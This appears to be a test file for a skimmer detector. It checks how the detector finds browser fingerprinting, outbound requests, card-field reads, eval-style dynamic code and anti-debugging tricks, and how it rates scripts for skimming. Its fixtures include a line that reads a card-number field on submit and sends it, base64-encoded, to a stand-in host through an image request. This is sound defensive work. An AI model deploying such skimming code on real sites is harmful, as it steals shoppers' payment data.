import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { findAntiDebugging } from './anti-debugging.ts'
import { usesInCode } from '../syntax/code-uses.ts'
import { findDestinations } from './destinations.ts'
import { findDynamicCode } from './dynamic-code.ts'
import { findFields } from './fields.ts'
import { findSignals } from './signals.ts'
import { findSkimming } from './skimmer.ts'
import { openParser } from '../syntax/syntax.ts'

const parse = await openParser()
const usesOf = (code: string) => usesInCode(parse(code))

/** Each finding in the code as `what: lines`. */
const found = (code: string) => {
  const uses = usesOf(code)
  const row = (what: string | undefined, lines: number[]) => `${what}: ${lines.join(',')}`
  return {
    signals: () => findSignals(uses).map(({ id, lines }) => row(id, lines)),
    destinations: () =>
      findDestinations(uses).map(({ kind, address, lines }) => row(`${kind} ${address}`, lines)),
    fields: () => findFields(uses).map(({ selector, holds, lines }) => row(`${selector} ${holds}`, lines)),
    dynamicCode: () => findDynamicCode(uses).map(({ id, lines }) => row(id, lines)),
    antiDebugging: () =>
      findAntiDebugging(uses, [{ tree: parse(code), hasLines: true }]).map(({ id, lines }) => row(id, lines)),
  }
}

type Part = keyof ReturnType<typeof found>
const cases: [part: Part, code: string, ...rows: string[]][] = [
  ['signals', 'const n = navigator\nn.platform', 'platform: 2'],
  ['signals', 'const { userAgent } = window.navigator', 'user-agent: 1'],
  [
    'signals',
    '(function (w, d) {\n w.navigator["webdriver"]; d.cookie })(window, document)',
    'webdriver: 2',
    'cookies: 2',
  ],
  ['signals', 'if ("getBattery" in navigator) {}', 'battery: 1'],
  ['signals', 'addEventListener("mousemove", f); x.addEventListener("keyup", f)', 'mouse: 1', 'keys: 1'],
  ['signals', 'function f(n) { return n.platform + this.name }'],
  ['signals', 'const screen = { width: 1 }; screen.width'],
  ['signals', 'new (window.AudioContext || window.webkitAudioContext)()', 'audio-context: 1'],
  [
    'destinations',
    'const host = "https://a.example"\nfetch(host + "/x?" + y)',
    'fetch https://a.example/x?…: 2',
  ],
  ['destinations', 'const r = new XMLHttpRequest(); r.open("POST", `/log/${id}`)', 'XHR /log/…: 1'],
  ['destinations', 'navigator.sendBeacon(atob("aHR0cHM6Ly9iLmV4YW1wbGU="))', 'beacon https://b.example: 1'],
  ['destinations', 'new WebSocket("wss://c.example")', 'WebSocket wss://c.example: 1'],
  ['destinations', 'const i = new Image(); i.src = "//d.example/p.gif"', 'image //d.example/p.gif: 1'],
  ['destinations', 'const s = document.createElement("script"); s.src = u', 'script undefined: 1'],
  ['destinations', 'document.createElement("form").action = "/pay"', 'form /pay: 1'],
  ['destinations', 'el.setAttribute("src", "https://e.example/x")', 'element https://e.example/x: 1'],
  ['destinations', 'const c = { url: "https://f.example" }; fetch(c.url)', 'fetch https://f.example: 1'],
  ['fields', 'document.getElementById("cc-number").value', 'cc-number Card number: 1'],
  ['fields', '$("#cvv").val()', '#cvv Card security code: 1'],
  ['fields', 'const f = document.querySelector("#a")\nf.value', '#a undefined: 2'],
  ['fields', 'document.querySelector("#a").value = 1'],
  ['fields', 'document.querySelectorAll("input").forEach(f)', 'input Every field of the page: 1'],
  ['fields', 'new FormData(form)', 'whole form Every field of a form: 1'],
  [
    'dynamicCode',
    'eval(x)\nnew Function("a", b)\nsetTimeout("f()", 1)',
    'eval: 1',
    'function: 2',
    'timer: 3',
  ],
  ['dynamicCode', 'setTimeout(f, 1); document.createElement("div")'],
  ['dynamicCode', 'document.createElement("script"); import(x)', 'script-element: 1', 'import: 1'],
  ['antiDebugging', 'debugger', 'debugger: 1'],
  ['antiDebugging', 'Function("debugger")()', 'made-debugger: 1'],
  ['antiDebugging', 'if (window.outerWidth - window.innerWidth > 160) x()', 'window-gap: 1'],
  ['antiDebugging', 'e.keyCode === 123', 'keys: 1'],
  ['antiDebugging', 'console.log = () => {}', 'console: 1'],
]

describe('finds in code', () => {
  for (const [part, code, ...rows] of cases) {
    test(`${part}: ${code.replaceAll('\n', ' ⏎ ')}`, () =>
      assert.deepEqual(found(code)[part]().toSorted(), rows.toSorted()))
  }
})

describe('rates a script as a skimmer', () => {
  const verdict = (code: string) => {
    const uses = usesOf(code)
    const [fields, destinations] = [findFields(uses), findDestinations(uses)]
    const proof = { run: 'finished', isRead: true, readablePercent: 100, unseen: [] } as const
    return findSkimming({ uses, fields, destinations, antiDebugging: [], proof }).verdict
  }
  const read = 'document.querySelector("#card-number").value'
  for (const [code, expected] of [
    [
      `addEventListener("submit", () => { new Image().src = "https://x.example/?" + btoa(${read}) })`,
      'likely',
    ],
    [`form.addEventListener("submit", () => fetch("/pay", { body: ${read} }))`, 'some'],
    ['navigator.sendBeacon("https://x.example", navigator.userAgent)', 'none'],
    ['window.fetch = function () {}', 'some'],
    ['console.log(1)', 'none'],
  ] as const) {
    test(`${expected}: ${code}`, () => assert.equal(verdict(code), expected))
  }
})
